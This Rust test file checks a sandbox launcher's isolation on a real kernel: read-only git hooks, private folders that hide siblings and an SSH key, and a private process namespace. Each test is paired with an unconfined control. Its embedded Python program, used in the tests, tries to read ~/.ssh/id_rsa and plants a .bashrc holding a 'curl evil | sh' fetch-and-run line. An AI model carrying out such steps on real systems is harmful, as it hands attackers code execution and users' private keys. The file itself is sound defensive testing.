//! What the launcher makes in a server's own namespaces, on the real kernel: a repository's
//! hooks kept read-only, private folders over a folder holding a named file, a process
//! namespace; each beside the same program without it, the control.

use std::process::Command;

use serde_json::{Value, json};

use super::{base, py, run, with, world};

#[test]
fn a_repository_keeps_its_hooks_read_only_in_a_root_the_server_writes() {
    let w = world();
    std::fs::create_dir_all(w.root.join(".git/hooks")).unwrap();
    let hook = py(&w.root.join(".git/hooks/pre-commit"));
    let top = py(&w.root.join("top-level.txt"));
    let code = format!(
        "for path in [{top}, {hook}]:\n    try:\n        open(path, 'w').write('x')\n        print('ok', end=' ')\n    except OSError as e:\n        print('refused', e.errno, end=' ')\nprint()"
    );
    let writable = with(base(&w), json!({"write": [w.root]}));
    let kept = with(
        writable.clone(),
        json!({"read_only": [w.root.join(".git/hooks")]}),
    );
    // A file anywhere else in the root is still made (the root is granted whole); the hook is
    // refused (EROFS: a read-only bind mount in the server's own mount namespace).
    let (answer, _, stderr) = run(&w, &kept, &code);
    assert_eq!(answer.trim(), "ok refused 30", "{stderr}");
    // The control: without it, the hook is written.
    std::fs::remove_file(w.root.join("top-level.txt")).unwrap();
    let (answer, _, stderr) = run(&w, &writable, &code);
    assert_eq!(answer.trim(), "ok ok", "{stderr}");
    // Nothing leaked into this process's view: the mount was the server's alone.
    let mounts = std::fs::read_to_string("/proc/self/mounts").unwrap();
    assert!(!mounts.contains(".git/hooks"), "{mounts}");
}

/// A file named in a folder the server may not write (the home folder): through a private
/// folder it saves the file by a temporary file renamed over it, while the folder's other
/// contents — a sibling, an SSH key — are not there for it, what it plants there (a `.bashrc`
/// by temp-and-rename) stays in its private folder, a read grant beneath the folder stays
/// read-only though the folder is written, and a write grant beneath it is written for real.
/// The control: the same program with the folder granted does all of it to the real folder.
#[test]
fn a_private_folder_saves_beside_a_named_file_and_shows_nothing_else() {
    let w = world();
    let home = &w.outside;
    std::fs::write(home.join("memory.jsonl"), "before").unwrap();
    std::fs::write(home.join("notes.txt"), "mine").unwrap();
    std::fs::create_dir_all(home.join("lib")).unwrap();
    std::fs::write(home.join("lib/mod.py"), "code").unwrap();
    std::fs::create_dir_all(home.join("proj")).unwrap();
    let private = w.root.parent().unwrap().join("state/beside/home");
    std::fs::create_dir_all(&private).unwrap();
    // What the engine does before a start: the saved file linked into the private folder.
    std::fs::hard_link(home.join("memory.jsonl"), private.join("memory.jsonl")).unwrap();
    let code = format!(
        r#"import os, json
home = {home}
r = {{}}
def attempt(k, f):
    try:
        r[k] = f()
    except Exception as e:
        r[k] = 'refused: ' + type(e).__name__
def save():
    open(home + '/memory.jsonl.1a2b.tmp', 'w').write('saved')
    os.replace(home + '/memory.jsonl.1a2b.tmp', home + '/memory.jsonl')
    return 'ok'
def plant():
    open(home + '/rc.tmp', 'w').write('curl evil | sh')
    os.replace(home + '/rc.tmp', home + '/.bashrc')
    return 'ok'
attempt('save', save)
attempt('list', lambda: sorted(os.listdir(home)))
attempt('sibling', lambda: open(home + '/notes.txt').read())
attempt('key', lambda: open(home + '/.ssh/id_rsa').read())
attempt('read lib', lambda: open(home + '/lib/mod.py').read())
attempt('write lib', lambda: open(home + '/lib/mod.py', 'w').write('evil'))
attempt('write proj', lambda: open(home + '/proj/new.txt', 'w').write('made'))
attempt('plant', plant)
print(json.dumps(r))"#,
        home = py(home)
    );
    let jailed = with(
        base(&w),
        json!({
            "read": [home.join("lib")],
            "write": [home.join("memory.jsonl"), home.join("proj")],
            "private_folders": [{"folder": home, "private": private}],
        }),
    );
    let (answer, status, stderr) = run(&w, &jailed, &code);
    assert_eq!(status, Some(0), "{stderr}");
    let r: Value = serde_json::from_str(&answer).unwrap_or_else(|_| panic!("{answer} {stderr}"));
    assert_eq!(r["save"], "ok", "{r}");
    assert_eq!(r["list"], json!(["lib", "memory.jsonl", "proj"]), "{r}");
    assert_eq!(r["sibling"], "refused: FileNotFoundError", "{r}");
    assert_eq!(r["key"], "refused: FileNotFoundError", "{r}");
    assert_eq!(r["read lib"], "code", "{r}");
    assert_eq!(r["write lib"], "refused: OSError", "{r}");
    assert_eq!(r["write proj"], 4, "{r}");
    // Saved in its private folder, for the engine to link back; the plant went there too.
    assert_eq!(
        std::fs::read_to_string(private.join("memory.jsonl")).unwrap(),
        "saved"
    );
    assert!(private.join(".bashrc").exists(), "{r}");
    let read = |p: &str| std::fs::read_to_string(home.join(p)).ok();
    assert_eq!(read("memory.jsonl").as_deref(), Some("before"));
    assert_eq!(read(".bashrc"), None);
    assert_eq!(read("lib/mod.py").as_deref(), Some("code"));
    assert_eq!(read("proj/new.txt").as_deref(), Some("made"));
    let mounts = std::fs::read_to_string("/proc/self/mounts").unwrap();
    assert!(
        !mounts.contains("beside"),
        "the mounts were the server's alone: {mounts}"
    );

    // The control: the folder granted, the same program does all of it to the real folder.
    let open = with(base(&w), json!({"write": [home]}));
    let (answer, _, stderr) = run(&w, &open, &code);
    let r: Value = serde_json::from_str(&answer).unwrap_or_else(|_| panic!("{answer} {stderr}"));
    assert_eq!(r["sibling"], "mine", "{r}");
    assert_eq!(r["key"], "PRIVATE KEY", "{r}");
    assert_eq!(r["write lib"], 4, "{r}");
    assert_eq!(read(".bashrc").as_deref(), Some("curl evil | sh"));
    assert_eq!(read("memory.jsonl").as_deref(), Some("saved"));
}

/// A process namespace of the server's own: a child reads its own `/proc/self` (a browser's
/// processes must), `/proc` lists the server's processes alone — not this test's —, and a
/// process it leaves behind ends with it. The control: the same program unconfined reads this
/// test's entry, and its orphan outlives it.
#[test]
fn a_server_sees_its_own_processes_alone_and_they_end_with_it() {
    let w = world();
    let marker = format!("{}.25", 300 + std::process::id() % 500);
    let code = format!(
        r#"import os, subprocess, json
r = {{}}
r['child'] = subprocess.run(['cat', '/proc/self/status'], capture_output=True).stdout.decode()[:5]
pids = [int(p) for p in os.listdir('/proc') if p.isdigit()]
r['mine'] = os.getpid() in pids
r['test'] = {test} in pids
subprocess.Popen(['sleep', '{marker}'], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print(json.dumps(r))"#,
        test = std::process::id()
    );
    let orphans = || {
        let out = Command::new("pgrep")
            .args(["-f", &format!("sleep {marker}")])
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout).lines().count()
    };
    let policy = with(base(&w), json!({"read": ["/proc/self", "/bin"]}));
    let (answer, status, stderr) = run(&w, &policy, &code);
    assert_eq!(status, Some(0), "{stderr}");
    let r: Value = serde_json::from_str(&answer).unwrap_or_else(|_| panic!("{answer} {stderr}"));
    assert_eq!(r["child"], "Name:", "{r}");
    assert_eq!(r["mine"], true, "{r}");
    assert_eq!(r["test"], false, "{r}");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
    while orphans() > 0 && std::time::Instant::now() < deadline {
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    assert_eq!(orphans(), 0, "a process the server left behind outlived it");

    // The control, unconfined.
    let out = Command::new(&w.python)
        .args(["-c", &code])
        .output()
        .unwrap();
    let r: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(r["test"], true, "{r}");
    assert_eq!(orphans(), 1, "the control's orphan lives on");
    Command::new("pkill")
        .args(["-f", &format!("sleep {marker}")])
        .status()
        .unwrap();
}
